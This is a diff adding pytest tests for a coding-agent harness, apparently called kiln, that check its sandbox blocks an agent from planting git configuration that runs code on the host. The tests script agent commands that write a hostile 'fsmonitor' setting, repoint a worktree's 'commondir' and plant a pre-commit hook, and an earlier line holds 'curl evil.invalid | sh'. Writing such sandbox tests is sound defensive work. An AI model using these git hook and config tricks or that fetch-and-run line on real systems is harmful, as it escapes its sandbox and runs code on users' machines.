@@ -146,3 +146,74 @@ def test_commits_the_agent_makes_cannot_ride_along_on_kilns_branch(
     assert result["branch"] == "" and "kiln/fix" not in git(root, "branch", "--list")
     patch = (artifacts / "changes.patch").read_text()  # every change since the run started
     assert "+curl evil.invalid | sh" in patch and "+    return a + b" in patch
+
+
+WRITE = """
+import os, sys
+for path, text in zip(sys.argv[1::2], sys.argv[2::2]):
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as fh:
+            fh.write(text.replace("|", "\\n"))
+        os.chmod(path, 0o755)
+        print("wrote", path)
+    except OSError as exc:
+        print("refused", path, exc.strerror)
+"""
+
+
+def plant(
+    root: Path, tmp_path: Path, kiln_home: Path, files: dict[str, str], before: str = "true"
+) -> str:
+    """Run ``before``, then write ``files`` (``|`` for newlines), from a command in the sandbox
+    of `kiln run --mode yolo`; returns the command's output."""
+    (root / "w.py").write_text(WRITE)
+    args = " ".join(f"'{path}' '{text}'" for path, text in files.items())
+    line = f"{before} && python3 w.py {args}"
+    steps = [{"tool_calls": [{"name": "run_command", "input": {"command": line}}]},
+             "done"]  # fmt: skip
+    script = tmp_path / "script.json"
+    script.write_text(json.dumps(steps))
+    proc = kiln_run(root, home=tmp_path, kiln_home=kiln_home, script=script, mode="yolo")
+    return tool_results(Path(json.loads(proc.stdout)["transcript"]))[-1]
+
+
+def test_a_linked_worktrees_commondir_cannot_be_repointed(
+    tmp_path: Path, kiln_home: Path, host_dir: Path
+) -> None:
+    """The user keeps a linked worktree next to the workspace; its git folder is
+    `.git/worktrees/wt` in the workspace, and its `commondir` names the config git uses there."""
+    root = repository(tmp_path)
+    git(root, "worktree", "add", "-q", str(tmp_path / "wt"))
+    marker = host_dir / "ran"
+    evil = f"[core]|\trepositoryformatversion = 0|\tfsmonitor = touch {marker}; false|"
+    out = plant(root, tmp_path, kiln_home, {
+        "evil/config": evil, "evil/HEAD": "ref: refs/heads/main|",
+        ".git/worktrees/wt/commondir": "../../../evil|",
+    }, before="mkdir -p evil && cp -r .git/objects .git/refs evil/")  # fmt: skip
+    subprocess.run(["git", "status"], cwd=tmp_path / "wt", capture_output=True)  # the user's
+    assert not marker.exists(), "the agent's fsmonitor ran in the user's worktree"
+    assert "wrote evil/config" in out and "refused .git/worktrees/wt/commondir" in out, out
+
+
+def test_a_separate_git_dir_inside_the_workspace_is_protected_like_dot_git(
+    tmp_path: Path, kiln_home: Path, host_dir: Path
+) -> None:
+    """`git init --separate-git-dir .repo`: `.git` is a file naming `.repo`, whose config and
+    hooks the user's next git command on the host uses."""
+    root = tmp_path / "repo"
+    root.mkdir()
+    git(root, "init", "-q", "-b", "main", "--separate-git-dir", str(root / ".repo"))
+    (root / "a.txt").write_text("a\n")
+    git(root, "add", "a.txt")
+    git(root, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "init")
+    marker = host_dir / "ran"
+    out = plant(root, tmp_path, kiln_home, {
+        ".repo/hooks/pre-commit": f"#!/bin/sh|touch {marker}-hook|",
+        ".repo/config": f"[core]|\trepositoryformatversion = 0|\tfsmonitor = touch {marker}; false|",
+    })  # fmt: skip
+    git(root, "status")
+    git(root, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty",
+        "-m", "next")  # fmt: skip
+    assert not list(host_dir.iterdir()), "the agent's hook or fsmonitor ran on the host"
+    assert "refused .repo/hooks/pre-commit" in out and "refused .repo/config" in out, out
